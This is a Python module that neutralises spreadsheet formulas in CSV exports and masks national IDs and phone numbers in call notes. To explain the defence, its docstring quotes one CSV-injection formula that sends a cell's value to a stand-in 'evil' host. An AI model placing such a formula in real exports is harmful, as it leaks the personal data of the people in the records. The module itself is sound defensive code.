"""What makes an export safe to open and to hand on: formula neutralising and masking.

A note typed as ``=HYPERLINK("http://evil/?"&A1,"click")`` must not become a live formula
when a lead opens the CSV in Excel (OWASP "CSV injection"): any text cell starting with
``= + - @``, a tab, CR or LF (or their full-width forms, which some spreadsheets accept)
gets a leading apostrophe. Personal data is masked by default: phones show their last three
digits, and national ids or phone numbers an agent typed into the notes are masked too.
"""

from __future__ import annotations

import re

from console.caller_view import mask_national_id
from console.phones import mask as mask_phone

FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")

# A Taiwanese national id or resident certificate number: a letter and nine digits.
_NATIONAL_ID = re.compile(r"(?<![A-Za-z0-9])[A-Za-z][12489]\d{8}(?!\d)")
# A phone number written in a note: 8+ digits, possibly with + - space ( ) between them.
_PHONE = re.compile(r"(?<![\dA-Za-z*])\+?\d(?:[\d\- ()]{6,18})\d(?!\d)")


def neutralise(text: str) -> str:
    """Make a text cell inert in a spreadsheet (leading apostrophe before formula starts)."""
    if text and text[0] in FORMULA_STARTS:
        return "'" + text
    return text


_DIGIT = re.compile(r"\d")
_NON_DIGIT = re.compile(r"\D")


def _mask_phone_match(m: re.Match[str]) -> str:
    digits = _NON_DIGIT.sub("", m.group(0))
    if len(digits) < 8:
        return m.group(0)
    return "*" * (len(digits) - 3) + digits[-3:]  # what console.phones.mask gives


def mask_notes(text: str) -> str:
    """Mask national ids and phone numbers inside free text."""
    if _DIGIT.search(text):
        text = _NATIONAL_ID.sub(lambda m: mask_national_id(m.group(0)) or "", text)
        text = _PHONE.sub(_mask_phone_match, text)
    return text


def mask_number(e164: str | None) -> str | None:
    """console.phones.mask, with a fast path for the usual E.164 form (same result)."""
    if not e164:
        return e164
    if e164[0] == "+" and e164[1:].isdigit():
        return "*" * (len(e164) - 4) + e164[-3:] if len(e164) > 4 else "*" * (len(e164) - 1)
    return mask_phone(e164)
